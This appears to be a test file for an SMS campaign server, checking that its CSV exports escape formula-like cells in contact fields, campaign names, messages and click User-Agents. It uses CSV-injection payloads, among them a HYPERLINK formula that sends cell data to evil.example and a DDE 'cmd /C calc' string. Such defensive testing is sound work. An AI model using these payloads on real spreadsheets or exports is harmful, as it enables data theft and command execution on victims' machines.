/**
 * Issue 13: every CSV the server exports escapes a cell a spreadsheet would run as a formula
 * (domain/csv). Hostile text comes in where users and strangers write it: a contact's field,
 * a campaign's name and message, and a clicker's browser (User-Agent). Phones stay usable.
 */
import { startPipeline } from '../messaging/pipeline';
import { SimulatorProvider } from '../messaging/providers/simulator';
import { waitUntil } from '../messaging/testCampaigns';
import { bearer, onEachDatabase } from '../test/signIn';
import { startTestApp, type TestApp } from '../test/testApp';
import { insertList, listOwner } from './contacts/importTesting';
import { sendCampaignCall, sendingAccount, type SendingAccount } from './campaigns/sendTesting';

const host = 'sms.example';
const hostileAgent = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const phones = ['523000001', '523000002'];

const csvLines = (payload: Buffer) => payload.toString('utf8').slice(1).split('\r\n');

onEachDatabase('CSV exports escape formulas', (dbOptions) => {
  let t: TestApp;
  let a: SendingAccount;
  let campaignId: number;
  let linkHash: string;

  beforeAll(async () => {
    t = await startTestApp({}, dbOptions);
    a = await sendingAccount(t, 100, phones);
    const link = (await t.app.inject({ method: 'POST', url: '/api/create-short-url', headers: { ...bearer(a.token), host }, payload: { url: 'https://shop.example/sale', type: 'personalLink' } })).json().data.shortLink;
    linkHash = link.hash;
    const sent = (await sendCampaignCall(t, a.token, { smsContent: `-2+3+cmd|' /C calc'!A0 ${link.shortUrl}`, campaign_name: '@SUM(1+1)*cmd', destinations: [{ type: 'cl', id: a.listId }], validation: false })).json().data;
    expect(sent.status).toBe(1);
    campaignId = sent.campaignId;
    const pipeline = await startPipeline({ db: t.db, provider: new SimulatorProvider({ latencyMs: 1, receiptDelayMs: 1, outcomes: { delivered: 1 }, replyShare: 0, seed: 3 }), tickMs: 20 });
    try {
      const delivered = () => t.db.selectFrom('messages').select(['text']).where('campaign_id', '=', campaignId).where('delivery_status', '=', 'delivered').orderBy('seq').execute();
      await waitUntil(async () => (await delivered()).length === phones.length, 20_000, 'delivered');
      const code = new RegExp(`${link.shortUrl.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}[0-9A-Za-z]{11}`).exec((await delivered())[0].text)![0];
      await t.app.inject({ method: 'GET', url: new URL(code).pathname, headers: { 'user-agent': hostileAgent } });
    } finally {
      await pipeline.stop();
    }
  });
  afterAll(() => t.close());

  test('download/contact-list: hostile fields are text (the tab is trimmed at import), the phones and a typed +972 number as they were', async () => {
    const owner = await listOwner(t.db);
    const listId = await insertList(t.db, owner.userId, 'hostile');
    const added = await t.app.inject({
      method: 'POST',
      url: '/api/contacts/add-pasted-number-to-list',
      headers: bearer(owner.token),
      payload: { contactListId: listId, rows: [{ phone: '0541234567', fields: ['=1+1', '+972541234567', '\t=cmd', '-5'], email: '@evil' }, { phone: '+447911123456' }] },
    });
    expect(added.json().data.status).toBe(1);
    const res = await t.app.inject({ method: 'GET', url: `/api/download/contact-list?id=${listId}`, headers: bearer(owner.token) });
    expect(res.statusCode).toBe(200);
    expect(csvLines(res.rawPayload)).toEqual(['Phone,Field 1,Field 2,Field 3,Field 4,Field 5,Birth date,Email', "0541234567,'=1+1,+972541234567,'=cmd,-5,,,'@evil", '447911123456,,,,,,,', '']);
  });

  test('download/sms-report: a campaign name and a message written as formulas are text', async () => {
    const res = await t.app.inject({ method: 'GET', url: `/api/download/sms-report?campaignId=${campaignId}`, headers: bearer(a.token) });
    expect(res.statusCode).toBe(200);
    const rows = csvLines(res.rawPayload).slice(1, -1);
    expect(rows).toHaveLength(phones.length);
    for (const row of rows) {
      expect(row).toContain(`,'-2+3+cmd|' /C calc'!A0 `);
      expect(row).toContain(`,${campaignId},'@SUM(1+1)*cmd,`);
    }
  });

  test("download/clicks-report: a clicker's browser (User-Agent) written as a formula is text", async () => {
    const res = await t.app.inject({ method: 'GET', url: `/api/download/clicks-report?hash=${linkHash}&type=personalLink`, headers: bearer(a.token) });
    expect(res.statusCode).toBe(200);
    const [, row] = csvLines(res.rawPayload);
    expect(row.startsWith("'@SUM(1+1)*cmd,https://shop.example/sale,0523000001,1,")).toBe(true);
    expect(row.endsWith(`,"'${hostileAgent.replace(/"/g, '""')}"`)).toBe(true);
  });
});
